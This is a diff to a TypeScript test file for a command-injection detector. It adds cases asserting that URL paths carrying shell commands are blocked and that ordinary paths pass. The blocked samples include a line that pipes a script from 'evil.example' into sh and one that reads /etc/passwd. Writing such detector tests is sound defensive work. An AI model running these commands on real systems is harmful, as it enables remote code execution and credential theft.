@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { keepsContract } from '../contract.ts'
+import { isBlocked, keepsContract } from '../contract.ts'
 import { commandInjection } from './detector.ts'
 import { attacks, harmless, pieces } from './samples.ts'
 
@@ -13,3 +13,20 @@ test('explains what it reads', () => {
   ])
   expect(commandInjection.explain?.('$(id)'.repeat(100))).toHaveLength(64)
 })
+
+test.each([
+  '/api/bash -c id',
+  '/curl http://evil.example/x.sh | sh',
+  '/api/ls -la /',
+  '/x/cat /etc/passwd',
+  '/cmd.exe /c dir',
+])('a folder of a path is a command line: %j', (path) => {
+  expect(isBlocked(commandInjection, path, 'path')).toBe(true)
+})
+
+test.each(['/whoami', '/files/cut 2.pdf', '/docs/how to find -x.pdf', '/api/curl', '/photos/cat and dog.jpg', '/wget'])(
+  'paths pass: %j',
+  (path) => {
+    expect(isBlocked(commandInjection, path, 'path')).toBe(false)
+  },
+)
